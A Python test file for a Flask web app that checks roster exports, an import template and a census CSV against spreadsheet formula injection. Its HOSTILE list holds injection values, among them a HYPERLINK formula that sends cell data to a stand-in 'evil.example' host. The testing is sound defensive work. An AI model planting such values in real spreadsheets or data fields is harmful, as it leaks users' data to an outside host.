"""Finding 6: names like =HYPERLINK(...) never become live formulas in what we write."""

import csv
import io
import zipfile

from flask import Flask
from openpyxl import load_workbook

from tests.factories import World, login, make_branch, make_member
from webapp.auth.models import Role
from webapp.extensions import db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1:A9)"]


def _no_formula_in(content: bytes) -> None:
    """No cell of any sheet is stored as a formula (<f> element) in the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    found.add(cell.value)
    return found


def test_finding_6_hostile_names_stay_text_in_exports_template_and_census(
    app: Flask, world: World
) -> None:
    with app.app_context():
        branch = make_branch(world.a.township, name=HOSTILE[0])
        for name in HOSTILE[1:]:
            make_member(world.a.township, branch, name=name)
        make_member(world.a.township, branch, name=HOSTILE[0][:20])
        db.session.commit()
    client = app.test_client()
    login(client, world.a.users[Role.TOWNSHIP_ADMIN])
    slug = world.a.township.slug

    roster = client.get(f"/t/{slug}/imports/export")
    assert roster.status_code == 200
    _no_formula_in(roster.data)
    assert set(HOSTILE[1:]) <= _texts(roster.data)

    template = client.get(f"/t/{slug}/imports/template.xlsx")
    assert template.status_code == 200
    _no_formula_in(template.data)
    assert HOSTILE[0] in _texts(template.data)

    census = client.get(f"/t/{slug}/census/?format=csv")
    assert census.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(census.get_data(as_text=True))) for c in row]
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
